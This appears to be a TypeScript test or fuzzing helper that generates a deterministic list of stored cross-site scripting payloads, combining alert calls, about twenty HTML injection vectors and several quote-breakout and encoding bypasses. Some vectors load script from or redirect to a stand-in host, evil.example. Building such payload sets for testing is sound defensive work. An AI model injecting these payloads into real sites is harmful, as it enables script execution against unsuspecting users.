/** Whatever runs calls this, and a dialog is seen whoever opened it. */
const calls = ["alert(1)", "alert`1`", "top.alert(1)", "(0,alert)(1)", "eval('alert(1)')"];

const elements = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror="${call}">`,
  (call: string) => `<svg onload="${call}">`,
  (call: string) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call: string) => `<body onload="${call}">`,
  (call: string) => `<details open ontoggle="${call}">`,
  (call: string) => `<video><source onerror="${call}"></video>`,
  (call: string) => `<input autofocus onfocus="${call}">`,
  (call: string) => `<iframe src="javascript:${call}"></iframe>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call: string) => `<object data="javascript:${call}"></object>`,
  (call: string) => `<a href="javascript:${call}">x</a>`,
  (call: string) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call: string) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call: string) =>
    `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${call}">`,
  (call: string) => `<script src="https://evil.example/x.js?${call}"></script>`,
  (call: string) => `<link rel=stylesheet href="https://evil.example/${call}.css">`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call: string) => `<base href="https://evil.example/">${call}`,
  (call: string) => `\${${call}} {{${call}}} <%= ${call} %>`,
] as const;

const disguises = [
  (words: string) => words,
  (words: string) => `">${words}`,
  (words: string) => `'>${words}`,
  (words: string) => `--></title></textarea></script>${words}`,
  (words: string) => words.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (words: string) => words.replaceAll("<", "\\u003c"),
  (words: string) => encodeURIComponent(words),
  (words: string) => words.replace(/^<(\w+)/, (tag) => tag.toUpperCase()).replaceAll(" ", "/"),
] as const;

export const payloadsMax = elements.length * calls.length * disguises.length;

/** So many of them, spread over all kinds and always the same ones. */
export function storedPayloads(count: number): string[] {
  const all = calls.flatMap((call) =>
    disguises.flatMap((disguise) => elements.map((element) => disguise(element(call)))),
  );
  return all.slice(0, count);
}
